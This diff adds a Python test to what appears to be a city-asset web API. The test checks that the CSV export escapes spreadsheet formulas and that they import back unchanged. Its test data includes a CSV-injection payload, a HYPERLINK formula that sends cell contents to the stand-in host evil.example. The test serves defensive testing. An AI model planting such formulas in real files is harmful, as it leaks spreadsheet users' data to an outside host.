@@ -244,6 +244,35 @@ def test_export_round_trips_into_a_new_city(
         assert len(original) == 62
 
 
+def test_csv_export_escapes_formulas_and_imports_them_back(
+    client: TestClient, container: Container, city: City, admin: dict[str, str]
+) -> None:
+    lat, lon = offset(city.lat, city.lon, -100.0, 0)
+    name = '=HYPERLINK("http://evil.example/?x="&A1,"Details")'
+    created = client.post(
+        f"/api/v1/cities/{city.slug}/assets",
+        json={"kind": "cabinet", "code": "@SUM(1)", "lat": lat, "lon": lon, "name": name},
+        headers=admin,
+    )
+    assert created.status_code == 201, created.json()
+    exported = client.get(
+        f"/api/v1/cities/{city.slug}/export", params={"format": "csv"}, headers=admin
+    )
+    assert exported.status_code == 200
+    [line] = [line for line in exported.text.splitlines() if "SUM(1)" in line]
+    assert line.startswith('cabinet,\'@SUM(1),"\'=HYPERLINK(""http://evil.example/?x=""&A1,')
+    twin = make_city(container.db)
+    imported = client.post(
+        f"/api/v1/cities/{twin.slug}/imports",
+        content=exported.content,
+        headers=bearer(make_token(container, twin)),
+    )
+    assert imported.status_code == 200, imported.json()["errors"][:5]
+    assert container.db.assets.existing_assets(twin.pk)["@SUM(1)"]
+    [copy] = [a for a in container.db.assets.iter_assets(twin.pk) if a.code == "@SUM(1)"]
+    assert copy.name == name
+
+
 def test_devices_are_listed_with_their_assets(
     client: TestClient, city: City, admin: dict[str, str]
 ) -> None:
